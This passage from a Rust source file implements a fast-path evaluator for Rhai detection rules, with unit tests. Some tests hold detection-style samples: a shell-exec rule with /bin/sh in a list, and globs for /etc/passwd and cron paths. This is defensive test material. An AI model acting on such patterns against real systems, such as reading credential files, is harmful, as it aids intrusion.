            let array = child.as_array_ref().map_err(|_| Fallback)?;
            let grandchild = array.get(index).ok_or(Fallback)?;
            walk(grandchild, run, &steps[1..])
        }
        Some(_) if child.is_map() || child.is_array() => Err(Fallback),
        Some(_) => run.apply_all(scalar(child), steps),
    }
}

enum Flow {
    Next,
    Return,
}

/// One evaluation: `'a` is the rule's (its fast path, its bindings), `'e` the event's (the
/// event and its path cache, shared by the event's rules).
pub(crate) struct Run<'a, 'e, N> {
    fast: &'a FastPath,
    event: &'e N,
    host: &'a HostData,
    side: &'a Side<'a>,
    cache: &'a PathCache<'e>,
    locals: SmallVec<[Val<'a>; 8]>,
    loop_budget: u64,
    /// Window calls this run added to the batch's journal.
    journaled: usize,
}

impl<'a, 'e: 'a, N: Node> Run<'a, 'e, N> {
    fn block(&mut self, block: &'a [S]) -> R<Flow> {
        for statement in block {
            if let Flow::Return = self.statement(statement)? {
                return Ok(Flow::Return);
            }
        }
        Ok(Flow::Next)
    }

    /// Bind `slot` (a new binding is the next slot, or a reused one past a closed block).
    fn set(&mut self, slot: usize, value: Val<'a>) -> R<()> {
        if slot < self.locals.len() {
            self.locals[slot] = value;
        } else if slot == self.locals.len() {
            self.locals.push(value);
        } else {
            return Err(Fallback);
        }
        Ok(())
    }

    fn statement(&mut self, statement: &'a S) -> R<Flow> {
        match statement {
            S::Let(slot, x) => {
                let value = self.eval(x)?;
                self.set(*slot, value)?;
                Ok(Flow::Next)
            }
            S::Assign(slot, x) => {
                let value = self.eval(x)?;
                if *slot >= self.locals.len() {
                    return Err(Fallback);
                }
                self.locals[*slot] = value;
                Ok(Flow::Next)
            }
            S::For {
                slot,
                from,
                to,
                inclusive,
                body,
                nodes,
            } => {
                let (Val::Int(from), Val::Int(to)) = (self.eval(from)?, self.eval(to)?) else {
                    return Err(Fallback);
                };
                let mut i = from;
                while i < to || (*inclusive && i == to) {
                    self.loop_budget = self.loop_budget.checked_sub(*nodes).ok_or(Fallback)?;
                    self.set(*slot, Val::Int(i))?;
                    if let Flow::Return = self.block(body)? {
                        return Ok(Flow::Return);
                    }
                    i = i.checked_add(1).ok_or(Fallback)?;
                }
                Ok(Flow::Next)
            }
            S::Expr(x) => self.eval(x).map(|_| Flow::Next),
            S::If(condition, then, otherwise) => {
                if self.boolean(condition)? {
                    self.block(then)
                } else {
                    self.block(otherwise)
                }
            }
            S::Block(inner) => self.block(inner),
            S::Return => Ok(Flow::Return),
            S::Opaque => Err(Fallback),
        }
    }

    /// A condition's value. Conditions are most of what rules evaluate, so the common ones
    /// are decided here without a `Val` for their result.
    fn boolean(&mut self, x: &'a X) -> R<bool> {
        match x {
            X::StrEq(negated, x, text) => self.str_eq(*negated, x, text),
            X::Cmp(op, a, b) => {
                let (a, b) = (self.eval(a)?, self.eval(b)?);
                compare(*op, &a, &b)
            }
            X::Not(a) => Ok(!self.boolean(a)?),
            X::And(items) => {
                for item in items {
                    if !self.boolean(item)? {
                        return Ok(false);
                    }
                }
                Ok(true)
            }
            X::Or(items) => {
                for item in items {
                    if self.boolean(item)? {
                        return Ok(true);
                    }
                }
                Ok(false)
            }
            X::Contains(haystack, needle) => {
                let haystack = self.eval(haystack)?;
                self.with_value(needle, |needle| contains(&haystack, needle))
            }
            X::Matches(text, regex) => {
                self.with_value(text, |v| text_test(v, |s| regex.is_match(s)))
            }
            X::Literal(text, literal) => {
                self.with_value(text, |v| text_test(v, |s| literal.test(s)))
            }
            X::InList(value, name) => {
                let list = self.host.lists.get(name.as_str()).ok_or(Fallback)?;
                self.with_value(value, |value| {
                    Ok(match value {
                        Val::Unit => false,
                        Val::Str(s) => list.contains(&**s),
                        Val::Int(i) => list.contains(i.to_string().as_str()),
                        Val::Bool(b) => list.contains(if *b { "true" } else { "false" }),
                        _ => return Err(Fallback),
                    })
                })
            }
            X::Cidr(ip, network) => match (self.eval(ip)?, self.eval(network)?) {
                (Val::Str(ip), Val::Str(net)) => cidr_contains(&ip, &net).map_err(|_| Fallback),
                (Val::Unit, Val::Str(_)) => Ok(false),
                _ => Err(Fallback),
            },
            _ => match self.eval(x)? {
                Val::Bool(b) => Ok(b),
                _ => Err(Fallback),
            },
        }
    }

    /// `f` on the value of `x`, borrowed in place when `x` is a local (most arguments of
    /// the matching functions are): no copy of it to make and drop.
    #[inline(always)]
    fn with_value<T>(&mut self, x: &'a X, f: impl FnOnce(&Val<'a>) -> R<T>) -> R<T> {
        if let X::Local(slot) = x {
            return f(self.locals.get(*slot).ok_or(Fallback)?);
        }
        let value = self.eval(x)?;
        f(&value)
    }

    fn str_eq(&mut self, negated: bool, x: &'a X, text: &str) -> R<bool> {
        // `event.a.b == "text"` straight from the path cache, without a value in between.
        if let X::Event(chain) = x {
            let event = self.event;
            if let Some(slot) = event.cached(self.cache, chain) {
                let equal = match slot {
                    Slot::At(Json::Str(s)) => same_text(s, text),
                    Slot::At(_) | Slot::Unit => false,
                    Slot::Unknown | Slot::Fallback => return Err(Fallback),
                };
                return Ok(equal != negated);
            }
        }
        let equal = match self.eval(x)? {
            Val::Str(s) => same_text(&s, text),
            _ => false,
        };
        Ok(equal != negated)
    }

    /// A string a function computed, within the size limit.
    fn string(&self, text: String) -> R<Val<'a>> {
        if text.len() > self.fast.max_string_size {
            return Err(Fallback);
        }
        Ok(Val::text(self.side.scratch.alloc_str(&text)))
    }

    /// A string a function returned as it was: Rhai checks its size all the same.
    fn sized(&self, text: Text<'a>) -> R<Val<'a>> {
        if text.len() > self.fast.max_string_size {
            return Err(Fallback);
        }
        Ok(Val::Str(text))
    }

    /// The value of an expression: literals and locals (most operands) right here, in the
    /// caller, without a call that saves registers and sets up a frame for them.
    #[inline(always)]
    fn eval(&mut self, x: &'a X) -> R<Val<'a>> {
        match x {
            X::Lit(lit) => Ok(lit.val()),
            X::Local(slot) => self.locals.get(*slot).cloned().ok_or(Fallback),
            _ => self.node(x),
        }
    }

    /// The value of any expression. Kept small: the arms most evaluations take are here,
    /// conditions go to [`Run::boolean`] and the rarer arms to [`Run::other`], so that the
    /// frame every call sets up and tears down stays small.
    #[inline(never)]
    fn node(&mut self, x: &'a X) -> R<Val<'a>> {
        Ok(match x {
            // Read by `eval` itself, without coming here.
            X::Lit(_) | X::Local(_) => return self.eval(x),
            X::Event(chain) => {
                let event = self.event;
                event.navigate(self, chain)?
            }
            X::Chain(base, steps) => {
                let value = self.eval(base)?;
                self.apply_all(value, steps)?
            }
            X::Cmp(..)
            | X::StrEq(..)
            | X::And(_)
            | X::Or(_)
            | X::Not(_)
            | X::Contains(..)
            | X::Matches(..)
            | X::Literal(..)
            | X::InList(..)
            | X::Cidr(..) => Val::Bool(self.boolean(x)?),
            X::Coalesce(items) => match &items[..] {
                // `x ?? "literal"`, the usual default.
                [first, X::Lit(default)] => match self.eval(first)? {
                    Val::Unit => default.val(),
                    value => value,
                },
                _ => {
                    let (last, first) = items.split_last().ok_or(Fallback)?;
                    for item in first {
                        let value = self.eval(item)?;
                        if !matches!(value, Val::Unit) {
                            return Ok(value);
                        }
                    }
                    self.eval(last)?
                }
            },
            X::If(condition, then, otherwise) => {
                if self.boolean(condition)? {
                    self.eval(then)?
                } else {
                    self.eval(otherwise)?
                }
            }
            X::Sub(a, b) => match (self.eval(a)?, self.eval(b)?) {
                (Val::Int(a), Val::Int(b)) => Val::Int(a.checked_sub(b).ok_or(Fallback)?),
                _ => return Err(Fallback),
            },
            X::Array(_) | X::Sum(_) | X::Entropy(_) | X::Enrich(..) | X::Window(..) => {
                self.other(x)?
            }
        })
    }

    /// The arms of [`Run::eval`] that build values (arrays, sums, joined strings) or reach
    /// outside the event (enrichment, windows).
    #[inline(never)]
    fn other(&mut self, x: &'a X) -> R<Val<'a>> {
        Ok(match x {
            X::Array(items) => {
                if items.len() > self.fast.max_array_size {
                    return Err(Fallback);
                }
                let values: R<Vec<Val<'a>>> = items.iter().map(|i| self.eval(i)).collect();
                Val::Arr(Rc::new(values?))
            }
            X::Sum(items) => self.sum(items)?,
            X::Entropy(text) => match self.eval(text)? {
                Val::Str(s) => Val::Float(entropy(&s)),
                Val::Unit => Val::Float(0.0),
                _ => return Err(Fallback),
            },
            X::Enrich(kind, key) => {
                let (kind, key) = (self.eval(kind)?, self.eval(key)?);
                let key = key_text(&key)?;
                // Without the capability Rhai reports the error.
                let (true, Val::Str(kind)) = (self.side.can_enrich, kind) else {
                    return Err(Fallback);
                };
                let host = self.host;
                match host.enrichment.get(&*kind).and_then(|t| t.get(&*key)) {
                    None => Val::Unit,
                    Some(found) if found.is_map() || found.is_array() => Val::Host(found),
                    Some(found) => scalar(found),
                }
            }
            X::Window(op, key, value, seconds) => {
                self.window(*op, key, value.as_deref(), seconds.as_deref())?
            }
            // `eval` sends no other arm here.
            _ => return Err(Fallback),
        })
    }

    /// `a + b + c...`: what Rhai's `+` gives step by step, each operand evaluated only
    /// once the sum before it is known to be valid (so no window call is made that Rhai,
    /// stopping at an error there, would not make), and a text built once.
    fn sum(&mut self, items: &'a [X]) -> R<Val<'a>> {
        let (first, rest) = items.split_first().ok_or(Fallback)?;
        match self.eval(first)? {
            Val::Int(mut total) => {
                for item in rest {
                    let Val::Int(n) = self.eval(item)? else {
                        return Err(Fallback);
                    };
                    total = total.checked_add(n).ok_or(Fallback)?;
                }
                Ok(Val::Int(total))
            }
            Val::Str(text) => {
                let mut len = text.len();
                let mut texts: SmallVec<[Text<'a>; 4]> = SmallVec::new();
                texts.push(text);
                for item in rest {
                    let Val::Str(text) = self.eval(item)? else {
                        return Err(Fallback);
                    };
                    // Every partial sum is a string Rhai checks against the limit.
                    len += text.len();
                    if len > self.fast.max_string_size {
                        return Err(Fallback);
                    }
                    texts.push(text);
                }
                // Joined once, in the event's scratch arena.
                let mut joined =
                    bumpalo::collections::String::with_capacity_in(len, self.side.scratch);
                for text in &texts {
                    joined.push_str(text);
                }
                Ok(Val::text(joined.into_bump_str()))
            }
            _ => Err(Fallback),
        }
    }

    /// A window call, as `script_api` makes it: arguments first (any error there is Rhai's
    /// to report, before anything is recorded), then the call on the rule's windows.
    fn window(
        &mut self,
        op: WindowOp,
        key: &'a X,
        value: Option<&'a X>,
        seconds: Option<&'a X>,
    ) -> R<Val<'a>> {
        let key = self.eval(key)?;
        let key = key_text(&key)?;
        let value = match value {
            Some(v) => Some(self.eval(v)?),
            None => None,
        };
        let value = match &value {
            Some(v) => Some(key_text(v)?),
            None => None,
        };
        let seconds = match seconds {
            Some(x) => Some(match self.eval(x)? {
                Val::Int(i) => i as FLOAT,
                Val::Float(f) => f,
                _ => return Err(Fallback),
            }),
            None => None,
        };
        let EventTime::At(now) = (self.side.time)() else {
            return Err(Fallback);
        };
        let span = match seconds {
            Some(s) => window_micros(s).map_err(|_| Fallback)?,
            None => 0,
        };
        let side = self.side;
        let result = context::with_context(|ctx| {
            let windows = ctx
                .windows
                .get_mut(side.rule)
                .ok_or_else(|| context::runtime_error("no window state"))?;
            let result = match op {
                WindowOp::Push => {
                    windows.push(&key, now, side.bounds);
                    0
                }
                WindowOp::Count => windows.count(&key, now, span),
                WindowOp::Distinct => {
                    let value = value.as_deref().unwrap_or_default();
                    windows.distinct(&key, value, now, span, side.bounds)
                }
            };
            let result = INT::try_from(result).unwrap_or(INT::MAX);
            ctx.journal.push(WindowCall {
                rule: side.rule,
                op,
                key: key.into_owned(),
                value: value.map(Cow::into_owned),
                seconds: seconds.map(f64::to_bits),
                result,
            });
            Ok(result)
        })
        .map_err(|_| Fallback)?;
        self.journaled += 1;
        Ok(match op {
            WindowOp::Push => Val::Unit,
            WindowOp::Count | WindowOp::Distinct => Val::Int(result),
        })
    }

    fn apply_all(&mut self, mut value: Val<'a>, steps: &'a [Step]) -> R<Val<'a>> {
        for (i, step) in steps.iter().enumerate() {
            if let Val::Host(found) = value {
                return walk(found, self, &steps[i..]);
            }
            value = self.apply(value, step)?;
        }
        Ok(value)
    }

    fn apply(&mut self, value: Val<'a>, step: &'a Step) -> R<Val<'a>> {
        match step {
            Step::Prop(_) => Err(Fallback),
            Step::Index(index) => match self.eval(index)? {
                Val::Int(i) => {
                    let i = usize::try_from(i).map_err(|_| Fallback)?;
                    value.array_get(i).ok_or(Fallback)
                }
                _ => Err(Fallback),
            },
            Step::Method(method, args) => {
                let mut values: SmallVec<[Val<'a>; 2]> = SmallVec::new();
                for arg in args {
                    values.push(self.eval(arg)?);
                }
                self.method(*method, value, &values)
            }
            Step::Find(find) => match value {
                Val::Str(s) => Ok(Val::Bool(find.0.find(s.as_bytes()).is_some())),
                other => {
                    let text = Val::Str(Text::Ref(find.1.as_str()));
                    self.method(Method::Contains, other, &[text])
                }
            },
        }
    }

    fn method(&self, method: Method, value: Val<'a>, args: &[Val<'a>]) -> R<Val<'a>> {
        Ok(match (method, value, args) {
            (Method::Len, Val::Str(s), []) => {
                Val::Int(INT::try_from(s.chars().count()).unwrap_or(INT::MAX))
            }
            (Method::Len, array @ (Val::Arr(_) | Val::Lits(_) | Val::Parts(..)), []) => {
                Val::Int(INT::try_from(array.array_len().ok_or(Fallback)?).map_err(|_| Fallback)?)
            }
            (Method::Split, Val::Str(s), [Val::Str(delimiter)]) if !delimiter.is_empty() => {
                if s.len() > self.fast.max_string_size {
                    return Err(Fallback);
                }
                if let (Text::Ref(whole), [byte]) = (&s, delimiter.as_bytes()) {
                    // At most one part per byte and one more: counted only when that
                    // could pass the limit.
                    if byte.is_ascii()
                        && (whole.len() < self.fast.max_array_size
                            || Val::Parts(whole, *byte).array_len()
                                <= Some(self.fast.max_array_size))
                    {
                        return Ok(Val::Parts(whole, *byte));
                    }
                }
                // Rhai's `split`: a string without the delimiter is one part, itself.
                let parts: Vec<Val<'a>> = match &s {
                    Text::Ref(whole) => split(whole, delimiter, Val::text),
                    Text::Shared(whole) if !whole.contains(&**delimiter) => vec![Val::Str(s)],
                    Text::Shared(whole) => {
                        split(whole, delimiter, |p| Val::Str(Text::Shared(p.into())))
                    }
                };
                if parts.len() > self.fast.max_array_size {
                    return Err(Fallback);
                }
                Val::Arr(Rc::new(parts))
            }
            // An ASCII string without upper-case letters is its own lower-case form (and
            // splits into parts borrowed from the event); only others need a new string.
            (Method::ToLower, Val::Str(s), []) => {
                if s.is_ascii() && !s.bytes().any(|b| b.is_ascii_uppercase()) {
                    self.sized(s)?
                } else {
                    self.string(s.to_lowercase())?
                }
            }
            (Method::ToUpper, Val::Str(s), []) => {
                if s.is_ascii() && !s.bytes().any(|b| b.is_ascii_lowercase()) {
                    self.sized(s)?
                } else {
                    self.string(s.to_uppercase())?
                }
            }
            (
                Method::Contains,
                haystack @ (Val::Str(_) | Val::Arr(_) | Val::Lits(_) | Val::Parts(..)),
                [needle],
            ) => Val::Bool(contains(&haystack, needle)?),
            (Method::StartsWith, Val::Str(s), [Val::Str(p)]) => Val::Bool(s.starts_with(&**p)),
            (Method::EndsWith, Val::Str(s), [Val::Str(p)]) => Val::Bool(s.ends_with(&**p)),
            (Method::ToString, Val::Int(i), []) => self.string(i.to_string())?,
            (Method::ToString, Val::Str(s), []) => self.sized(s)?,
            _ => return Err(Fallback),
        })
    }
}

fn compare(op: Cmp, a: &Val<'_>, b: &Val<'_>) -> R<bool> {
    use std::cmp::Ordering;
    let ordering: Ordering = match (a, b) {
        (Val::Str(a), Val::Str(b)) => (**a).cmp(&**b),
        (Val::Int(a), Val::Int(b)) => a.cmp(b),
        (Val::Bool(a), Val::Bool(b)) => match op {
            Cmp::Eq => return Ok(a == b),
            Cmp::Ne => return Ok(a != b),
            _ => return Err(Fallback),
        },
        (Val::Float(a), Val::Float(b)) => return Ok(float_compare(op, *a, *b)),
        (Val::Float(a), Val::Int(b)) => return Ok(float_compare(op, *a, *b as FLOAT)),
        (Val::Int(a), Val::Float(b)) => return Ok(float_compare(op, *a as FLOAT, *b)),
        // Rhai's built-in operators (`func/builtin.rs`): `()` equals only `()` and orders
        // against nothing; `()` against a string is unequal and unordered, not an error.
        (Val::Unit, Val::Unit) => return Ok(matches!(op, Cmp::Eq)),
        (Val::Unit, Val::Str(_)) | (Val::Str(_), Val::Unit) => return Ok(matches!(op, Cmp::Ne)),
        // `Other` may be an array, like `Arr` and `Lits`.
        (
            Val::Other | Val::Host(_) | Val::Arr(_) | Val::Lits(_) | Val::Parts(..),
            Val::Other | Val::Host(_) | Val::Arr(_) | Val::Lits(_) | Val::Parts(..),
        ) => return Err(Fallback),
        // Any other two types differ: equality is false, ordering is an error.
        _ => match op {
            Cmp::Eq => return Ok(false),
            Cmp::Ne => return Ok(true),
            _ => return Err(Fallback),
        },
    };
    Ok(match op {
        Cmp::Eq => ordering.is_eq(),
        Cmp::Ne => ordering.is_ne(),
        Cmp::Lt => ordering.is_lt(),
        Cmp::Le => ordering.is_le(),
        Cmp::Gt => ordering.is_gt(),
        Cmp::Ge => ordering.is_ge(),
    })
}

/// Rhai's comparisons involving a float (`func/builtin.rs`, checked builds): relative to
/// the larger magnitude, values within `FLOAT::EPSILON` are equal, so `0.0 <= -1e-115`.
fn float_compare(op: Cmp, x: FLOAT, y: FLOAT) -> bool {
    let max = if x * y == 0.0 {
        1.0
    } else {
        x.abs().max(y.abs())
    };
    if max == 0.0 {
        return matches!(op, Cmp::Eq | Cmp::Ge | Cmp::Le);
    }
    match op {
        Cmp::Eq => (x - y).abs() / max <= FLOAT::EPSILON,
        Cmp::Ne => (x - y).abs() / max > FLOAT::EPSILON,
        Cmp::Gt => (x - y) / max > FLOAT::EPSILON,
        Cmp::Ge => (x - y) / max > -FLOAT::EPSILON,
        Cmp::Lt => (y - x) / max > FLOAT::EPSILON,
        Cmp::Le => (y - x) / max > -FLOAT::EPSILON,
    }
}

/// `whole.split(delimiter)`, by a byte search when the delimiter is one ASCII byte (a
/// string delimiter sets up a substring searcher on every call).
fn split<'t, T>(whole: &'t str, delimiter: &str, mut part: impl FnMut(&'t str) -> T) -> Vec<T> {
    let [byte] = delimiter.as_bytes() else {
        return whole.split(delimiter).map(part).collect();
    };
    if !byte.is_ascii() {
        return whole.split(delimiter).map(part).collect();
    }
    let mut parts = Vec::with_capacity(8);
    let mut start = 0;
    for at in memchr::memchr_iter(*byte, whole.as_bytes()) {
        parts.push(part(&whole[start..at]));
        start = at + 1;
    }
    parts.push(part(&whole[start..]));
    parts
}

/// Part `i` of `text` split at the ASCII `byte`, as `str::split` would give it. A byte loop:
/// the texts are short, and `split(char)` or a `memchr` per part cost several times more.
fn nth_part(text: &str, byte: u8, i: usize) -> Option<&str> {
    let (mut start, mut seen) = (0, 0);
    for (at, &b) in text.as_bytes().iter().enumerate() {
        if b == byte {
            if seen == i {
                return text.get(start..at);
            }
            seen += 1;
            start = at + 1;
        }
    }
    (seen == i).then(|| text.get(start..)).flatten()
}

/// Window keys, list members and enrichment keys as `script_api::key_text` makes them:
/// strings as they are, integers in decimal; other types are left to Rhai.
fn key_text<'v>(value: &'v Val<'_>) -> R<Cow<'v, str>> {
    match value {
        Val::Str(s) => Ok(Cow::Borrowed(&**s)),
        Val::Int(i) => Ok(Cow::Owned(i.to_string())),
        _ => Err(Fallback),
    }
}

/// `glob`'s and `re_match`'s answer for a value: `()` matches nothing, and any other type
/// is Rhai's error to report.
fn text_test(value: &Val<'_>, test: impl FnOnce(&str) -> bool) -> R<bool> {
    match value {
        Val::Str(s) => Ok(test(s)),
        Val::Unit => Ok(false),
        _ => Err(Fallback),
    }
}

/// Rhai's `contains(haystack, needle)`: a substring for strings; for arrays the engine's
/// exact-type overloads (`script_api::register_membership`) for string and integer needles.
fn contains(haystack: &Val<'_>, needle: &Val<'_>) -> R<bool> {
    match (haystack, needle) {
        (Val::Str(h), Val::Str(n)) => return Ok(h.contains(&**n)),
        // An array constant (`x in ["a", "b"]`, or a `let` bound to one): its items are
        // compared where they are, without a value made for each.
        (Val::Lits(items), Val::Str(_) | Val::Int(_)) => {
            let mut found = false;
            for item in *items {
                match (item, needle) {
                    (Lit::Str(s), Val::Str(n)) => found |= same_text(s, n),
                    (Lit::Int(i), Val::Int(n)) => found |= i == n,
                    (Lit::Float(_) | Lit::Arr(_), _) => return Err(Fallback),
                    _ => {}
                }
            }
            return Ok(found);
        }
        _ => {}
    }
    let len = haystack.array_len().ok_or(Fallback)?;
    let mut found = false;
    for i in 0..len {
        let item = haystack.array_get(i).ok_or(Fallback)?;
        match (&item, needle) {
            (Val::Str(s), Val::Str(n)) => found |= **s == **n,
            (Val::Int(i), Val::Int(n)) => found |= i == n,
            (Val::Int(_) | Val::Bool(_) | Val::Unit, Val::Str(_))
            | (Val::Str(_) | Val::Bool(_) | Val::Unit, Val::Int(_)) => {}
            _ => return Err(Fallback),
        }
    }
    Ok(found)
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use serde_json::{json, Value};

    use super::*;
    use crate::engine::{BatchOutcome, RuleEngine, RuleSpec};
    use crate::projection::Projection;

    fn compiled(source: &str, limits: &Limits) -> Option<FastPath> {
        let mut engine = rhai::Engine::new_raw();
        engine.register_global_module(rhai::packages::Package::as_shared_module(
            &rhai::packages::StandardPackage::new(),
        ));
        let mut scope = rhai::Scope::new();
        scope.push_dynamic("event", Dynamic::UNIT);
        let ast = engine
            .compile_with_scope(&scope, source)
            .expect("test source compiles");
        FastPath::compile(&ast, limits, &mut Paths::default())
    }

    /// The verdict on `event` as parsed JSON, checked to be the same on it as a Rhai value.
    fn verdict(fast: &FastPath, event: &Value, host: &HostData) -> bool {
        let bytes = serde_json::to_vec(event).expect("serializes");
        let arena = crate::json::Bump::new();
        let json = Projection::Whole.parse(&bytes, &arena).expect("parses");
        let value: Dynamic = rhai::serde::to_dynamic(event).expect("event converts");
        // No batch is running: window calls give up, `enrich` reads `host`.
        let side = Side {
            rule: 0,
            bounds: Limits::default().window_bounds(),
            can_enrich: true,
            time: &|| EventTime::Missing,
            scratch: &crate::json::Bump::new(),
        };
        // Paths are cached on JSON events only (the rule's paths number from 0 here).
        let cache: Vec<std::cell::Cell<Slot>> = (0..256).map(|_| Default::default()).collect();
        let on_json = fast.quiet(&json, host, &side, &cache);
        assert_eq!(
            on_json,
            fast.quiet(&value, host, &side, &[]),
            "JSON and Rhai value agree"
        );
        on_json
    }

    fn quiet(source: &str, event: Value) -> bool {
        let fast = compiled(source, &Limits::default()).expect("has a fast path");
        let mut host = HostData::default();
        host.lists.insert(
            "shells".into(),
            ["/bin/sh".to_string()].into_iter().collect(),
        );
        let intel: Dynamic =
            rhai::serde::to_dynamic(json!({"reputation": "malicious", "n": 3})).expect("converts");
        host.enrichment.insert(
            "ip".into(),
            [
                ("203.0.113.7".to_string(), intel),
                ("7".to_string(), Dynamic::from("seven")),
            ]
            .into_iter()
            .collect(),
        );
        verdict(&fast, &event, &host)
    }

    #[test]
    fn guards_are_decided_natively_and_the_rest_is_left_to_rhai() {
        let rule = r#"if event.proc.action != "exec" { return; }
                      if in_list(event.proc.exe, "shells") { emit(); }"#;
        let exec = |exe: &str| json!({"proc": {"action": "exec", "exe": exe}});
        assert!(quiet(rule, json!({"proc": {"action": "exit"}})));
        assert!(
            quiet(rule, exec("/bin/ls")),
            "false condition: nothing happens"
        );
        assert!(!quiet(rule, exec("/bin/sh")), "emit is Rhai's");
    }

    #[test]
    fn split_by_a_byte_is_str_split() {
        for whole in [
            "",
            "/",
            "//",
            "/usr/bin/curl",
            "a/",
            "/a",
            "é/ü//x",
            "no delimiter",
        ] {
            for delimiter in ["/", ".", "//", "é"] {
                let ours = split(whole, delimiter, str::to_string);
                let std: Vec<String> = whole.split(delimiter).map(str::to_string).collect();
                assert_eq!(ours, std, "{whole:?} split {delimiter:?}");
                // The parts read in place, as `Val::Parts` reads them.
                if let [byte] = delimiter.as_bytes() {
                    let parts = Val::Parts(whole, *byte);
                    assert_eq!(
                        parts.array_len(),
                        Some(std.len()),
                        "{whole:?} {delimiter:?}"
                    );
                    for i in 0..=std.len() {
                        let part = match parts.array_get(i) {
                            Some(Val::Str(text)) => Some(text.to_string()),
                            None => None,
                            Some(other) => panic!("a part is text, not {other:?}"),
                        };
                        assert_eq!(part.as_ref(), std.get(i), "{whole:?} {delimiter:?} [{i}]");
                    }
                }
            }
        }
    }

    #[test]
    fn literal_globs_match_what_their_regex_matches() {
        assert_eq!(
            Literal::of_glob("/tmp/*"),
            Some(Literal::Prefix("/tmp/".into()))
        );
        assert_eq!(
            Literal::of_glob("**.so"),
            Some(Literal::Suffix(".so".into()))
        );
        assert_eq!(Literal::of_glob("*x*"), Some(Literal::Within("x".into())));
        assert_eq!(
            Literal::of_glob("/etc/passwd"),
            Some(Literal::Exact("/etc/passwd".into()))
        );
        for pattern in ["*", "", "a*b", "a?", "[ab]*", "a[*", "**"] {
            assert_eq!(Literal::of_glob(pattern), None, "{pattern}");
        }
        let patterns = [
            "/tmp/*",
            "*.so",
            "*cron*",
            "/etc/passwd",
            "é*",
            "*\n",
            "a.b(c)+*",
        ];
        let texts = [
            "/tmp/x",
            "/tmp/",
            "/tmp",
            "/tmpx",
            "lib.so",
            ".so",
            "lib.so.1",
            "/etc/cron.d",
            "cron",
            "/etc/passwd",
            "/etc/passwd\n",
            "é",
            "éa",
            "a\n",
            "\n",
            "x\n/tmp/",
            "a.b(c)+z",
            "",
            "/tmp/\n",
        ];
        for pattern in patterns {
            let literal = Literal::of_glob(pattern).expect("a literal pattern");
            let regex = matchers::compile_glob(pattern).expect("compiles");
            for text in texts {
                assert_eq!(
                    literal.test(text),
                    regex.is_match(text),
                    "{pattern} on {text:?}"
                );
            }
        }
    }

    #[test]
    fn enrich_is_read_natively() {
        let rule = r#"let intel = enrich("ip", event.ip);
                      if intel != () && intel.reputation == "malicious" { emit(); }"#;
        assert!(quiet(rule, json!({"ip": "10.0.0.1"})), "not in the table");
        assert!(
            !quiet(rule, json!({"ip": "203.0.113.7"})),
            "listed: emit is Rhai's"
        );
        assert!(
            !quiet(rule, json!({"ip": 7})),
            "a string entry has no property"
        );
        assert!(
            !quiet(rule, json!({"ip": 1.5})),
            "a float key is left to Rhai"
        );
        let scalar = r#"if enrich("ip", event.n) == "seven" { emit(); }"#;
        assert!(!quiet(scalar, json!({"n": 7})), "integer keys read as text");
        assert!(quiet(scalar, json!({"n": 8})));
        assert!(quiet(
            r#"if enrich("ip", "203.0.113.7").n > 2 { return; } emit();"#,
            json!({})
        ));
        assert!(!quiet(
            r#"if enrich("nope", "x") == () { emit(); }"#,
            json!({})
        ));
        assert!(quiet(
            r#"if enrich("nope", "x") != () { emit(); }"#,
            json!({})
        ));
    }

    #[test]
    fn anything_rhai_would_fail_on_or_that_is_not_modelled_goes_to_rhai() {
        let rule = r#"if event.proc.action != "exec" { return; }"#;
        // A property of a missing map is an error in Rhai; a missing field is `()`, which
        // is unequal to any string, as a number is.
        assert!(!quiet(rule, json!({"net": {}})));
        assert!(quiet(rule, json!({"proc": {}})));
        assert!(quiet(rule, json!({"proc": {"action": 7}})));
        assert!(
            !quiet("if event.n < \"x\" { return; }", json!({"n": 1})),
            "an error in Rhai"
        );
        assert!(!quiet("if event.x { return; }", json!({"x": "not a bool"})));
        assert!(!quiet(
            r#"let p = event.path.split("/"); if p[9] == "" { return; }"#,
            json!({"path": "/a"})
        ));
        assert!(!quiet(
            "if event.n + 1 > 0 { return; }",
            json!({"n": i64::MAX})
        ));
        assert!(quiet(r#"if 1.5 == event.f { return; }"#, json!({"f": 1.5})));
        assert!(quiet(r#"if event.f >= 1.5 { return; }"#, json!({"f": 2.5})));
        // Rhai's float comparisons are relative: these hold in Rhai, not in exact arithmetic.
        let tiny = json!({"zero": 0.0, "tiny": -1e-115, "one": 1, "near": 1.0000000000000002});
        assert!(quiet(
            "if event.zero <= event.tiny { return; } emit();",
            tiny.clone()
        ));
        assert!(quiet(
            "if event.one == event.near { return; } emit();",
            tiny.clone()
        ));
        assert!(!quiet(
            "if event.zero < event.tiny { return; } emit();",
            tiny
        ));
    }

    #[test]
    fn values_follow_rhai_semantics() {
        let quiet_if = |condition: &str, event: Value| {
            quiet(&format!("if {condition} {{ return; }} emit();"), event)
        };
        let e = json!({"s": "Ab.c", "n": 3, "m": {"k": "v"}, "empty": ""});
        assert!(quiet_if(r#"event.s.len() == 4"#, e.clone()));
        assert!(quiet_if(r#"event.s.to_lower() == "ab.c""#, e.clone()));
        assert!(quiet_if(r#"event.s.to_upper() == "AB.C""#, e.clone()));
        assert!(quiet_if(r#"event.s.split(".")[1] == "c""#, e.clone()));
        assert!(quiet_if(r#"event.empty.split(".").len() == 1"#, e.clone()));
        assert!(quiet_if(r#"event.n.to_string() + "x" == "3x""#, e.clone()));
        assert!(quiet_if(r#"(event.missing ?? "d") == "d""#, e.clone()));
        assert!(quiet_if(r#"event.m.k in ["a", "v"]"#, e.clone()));
        assert!(quiet_if(r#"!(event.n in [1, 2])"#, e.clone()));
        assert!(quiet_if(
            r#"glob(event.s, "A*") && !re_match(event.s, "^x")"#,
            e.clone()
        ));
        assert!(quiet_if(r#"!glob(event.missing, "*")"#, e.clone()));
        assert!(quiet_if(
            r#"(if event.n > 2 { "big" } else { "small" }) == "big""#,
            e.clone()
        ));
        assert!(quiet_if(
            r#"event.s.contains("b.") && event.s.ends_with("c")"#,
            e.clone()
        ));
        assert!(quiet_if(r#"cidr("10.1.2.3", "10.0.0.0/8")"#, e.clone()));
        assert!(quiet_if(r#"entropy("aabb") >= entropy("abab")"#, e.clone()));
        assert!(quiet_if(r#"entropy("aabb") == 1.0"#, e));
    }

    #[test]
    fn results_past_the_size_limits_are_left_to_rhai() {
        let limits = Limits {
            max_string_size: 8,
            max_array_size: 2,
            ..Limits::default()
        };
        let host = HostData::default();
        let check = |source: &str, s: &str| {
            let fast = compiled(source, &limits).expect("fast");
            verdict(&fast, &json!({"s": s}), &host)
        };
        let upper = r#"if event.s.to_upper() == "" { return; }"#;
